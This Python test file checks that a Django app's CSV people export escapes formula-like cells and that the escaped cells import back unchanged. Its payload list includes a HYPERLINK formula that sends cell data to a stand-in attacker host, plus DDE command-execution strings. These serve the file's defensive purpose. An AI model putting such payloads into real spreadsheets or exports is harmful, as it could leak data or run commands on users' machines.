"""`careermap export people` writes a file no spreadsheet runs as formulas, and the import reads
it back unchanged."""

import csv

from django.core.management import call_command

from careermap.people.imports import import_people
from careermap.people.models import Person
from tests.factories import PersonFactory, TeamFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for your bonus")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "''=already quoted twice",
]


def export(tmp_path) -> tuple[list[list[str]], bytes]:
    path = tmp_path / "people.csv"
    call_command("export", "people", "-o", str(path))
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f)), path.read_bytes()


def test_no_exported_cell_starts_like_a_formula(db, tmp_path):
    for n, text in enumerate(FORMULAS):
        PersonFactory(name=text, job_title=text, team=TeamFactory(name=f"{text} {n}"))
    PersonFactory(name="\tTabbed", job_title="\rReturned", email="-dash@example.org")
    rows, _ = export(tmp_path)
    cells = [cell for row in rows[1:] for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    # Shown as text, and otherwise as written.
    names = [row[1] for row in rows[1:]]
    assert names[:-1] == [f"'{text}" for text in FORMULAS]
    assert rows[-1][:3] == ["'-dash@example.org", "'\tTabbed", "'\rReturned"]


def test_an_exported_file_imports_back_unchanged(db, tmp_path):
    boss = PersonFactory(name="=Boss()", email="-boss@example.org")
    for text in FORMULAS:
        PersonFactory(name=text, job_title=text, manager=boss, team=TeamFactory(name=text))
    before = list(Person.objects.values_list("email", "name", "job_title", "team__name"))
    _, data = export(tmp_path)
    report = import_people(data, actor=None)
    assert report.ok and report.unchanged == len(before) and not report.updated
    assert list(Person.objects.values_list("email", "name", "job_title", "team__name")) == before


def test_plain_names_are_exported_as_they_are(db, tmp_path):
    PersonFactory(name="Ana O'Neil", job_title="Engineer - Platform", email="ana@example.org")
    rows, _ = export(tmp_path)
    assert rows[1][:3] == ["ana@example.org", "Ana O'Neil", "Engineer - Platform"]


def test_a_spreadsheet_text_mark_is_not_part_of_an_imported_name(db):
    data = "email,name,title\nli@example.com,'=Li Wei,'@home\nkim@example.com,'Kim,x\n"
    assert import_people(data.encode(), actor=None).ok
    li = Person.objects.get(email="li@example.com")
    assert (li.name, li.job_title) == ("=Li Wei", "@home")
    assert Person.objects.get(email="kim@example.com").name == "'Kim"  # not a formula: kept
